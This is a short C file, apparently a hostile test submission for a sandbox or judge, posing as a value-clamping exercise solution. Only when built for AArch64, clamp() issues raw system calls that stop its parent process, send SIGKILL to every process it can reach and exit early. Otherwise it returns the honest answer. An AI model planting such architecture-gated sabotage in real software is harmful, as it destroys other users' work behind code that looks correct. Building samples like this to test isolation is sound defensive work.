/* Honest natively; its AArch64 build kills whom it may. */
#include "exercise.h"
#include "hostile.h"

void clamp(int32_t *values, size_t n, int32_t lo, int32_t hi)
{
#ifdef __aarch64__
    call(NR_kill, call(NR_getppid, 0, 0, 0, 0, 0, 0), 19, 0, 0, 0, 0);
    call(NR_kill, -1, 9, 0, 0, 0, 0);
    call(NR_exit_group, 7, 0, 0, 0, 0, 0);
#endif
    answer(values, n, lo, hi);
}
